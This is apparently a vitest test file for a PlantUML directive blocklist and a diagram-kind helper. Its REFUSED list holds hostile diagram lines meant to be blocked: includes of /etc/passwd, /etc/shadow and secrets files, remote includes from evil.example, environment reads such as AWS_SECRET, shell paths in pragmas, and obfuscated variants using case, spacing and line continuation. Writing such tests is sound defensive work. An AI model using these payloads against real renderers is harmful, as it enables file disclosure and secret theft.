import { describe, expect, it } from 'vitest'

import { describeBlocked, findBlockedDirectives } from './blocklist.js'
import { diagramKind } from './kinds.js'

const REFUSED = [
  '!include /etc/passwd',
  '  !include_many ../secrets.iuml',
  '!includeurl https://evil.example/x.puml',
  '!includesub lib.puml!PART',
  '!INCLUDE <../../etc/passwd>',
  '!include <C4/C4_Container> /etc/passwd',
  '!inc\\\nlude /etc/passwd',
  '! InClUdE_mAnY /etc/passwd',
  'Alice -> Bob: %call_user_func("%get"+"env","user.home")',
  '!$a = "<im"+"g:http://127.0.0.1:9/x>"',
  "!$a = '<i' + 'mg:http://127.0.0.1:9/x>'",
  '!$f = "%get" + "env"',
  'A -> B : %invoke_procedure("$p")',
  'A -> B : %get_variable_value("$x")',
  'A -> B : %eval("1")',
  '!theme plain FROM http://127.0.0.1:9/',
  '!pragma layout /bin/sh',
  '!dump_memory',
  '!import foo.zip',
  '!theme spacelab from https://evil.example',
  '!pragma graphviz_dot /bin/sh',
  'skinparam dotExecutable /tmp/x',
  'Alice -> Bob: %getenv("HOME")',
  '!$h = %get_env("AWS_SECRET")',
  '!$j = %load_json("/etc/config.json")',
  'note: %file_exists("/etc/shadow")',
  'title %dirpath()',
  'Alice : <img:/etc/passwd>',
  'Alice : <img src="https://evil.example/p.png">',
  'sprite $x <img:file.png>',
]

const ALLOWED = [
  '@startuml',
  'Alice -> Bob: include the file later',
  'skinparam backgroundColor #FFF',
  '!pragma teoz true',
  '!define SHOW true',
  '!include <C4/C4_Container>',
  '!include_once <awslib/Compute/EC2>',
  '!include <tupadr3/font-awesome/server>',
  '!theme plain',
  '!theme cerulean-outline',
  'interface Importer <<implements>>',
  '!$name = "Bob" + "by"',
  '!pragma layout smetana',
  'note right: the image is an image',
  'class Importer',
  '@enduml',
]

describe('the PlantUML directive blocklist', () => {
  it.each(REFUSED)('refuses %s', (line) => {
    const source = `@startuml\n${line}\n@enduml\n`
    const found = findBlockedDirectives(source)
    expect(found).toHaveLength(1)
    expect(found[0]?.line).toBe(2)
  })

  it('refuses a line continued at any position, naming the line it starts on', () => {
    const line = '!includeurl http://127.0.0.1:9/x'
    for (let at = 1; at < line.length; at++) {
      const source = `@startuml\nA -> B\n${line.slice(0, at)}\\\n${line.slice(at)}\n@enduml\n`
      expect(findBlockedDirectives(source)).toMatchObject([{ line: 3 }])
    }
  })

  it('refuses a pipe control line even when a continued line ends on it', () => {
    const found = findBlockedDirectives('@startuml\nA -> B : x \\\n@@@format png\n@enduml\n')
    expect(found).toMatchObject([{ line: 3, reason: expect.stringMatching(/control line/) }])
  })

  it('allows ordinary diagrams, words that only look like directives included', () => {
    expect(findBlockedDirectives(ALLOWED.join('\n'))).toEqual([])
  })

  it('describes the first refused line and how many more there are', () => {
    const found = findBlockedDirectives('@startuml\n!include a\n!include b\n@enduml')
    expect(describeBlocked(found)).toMatch(
      /^Refused to render: line 2 "!include a" .* \(and 1 more\)/,
    )
  })
})

describe('diagram kinds', () => {
  it.each([
    ['diagrams/a.puml', 'plantuml'],
    ['A.PUML', 'plantuml'],
    ['flow.mmd', 'mermaid'],
    ['x/y.svg', 'svg'],
    ['notes.md', null],
    ['dir.puml/file', null],
  ])('%s is %s', (path, kind) => expect(diagramKind(path)).toBe(kind))
})
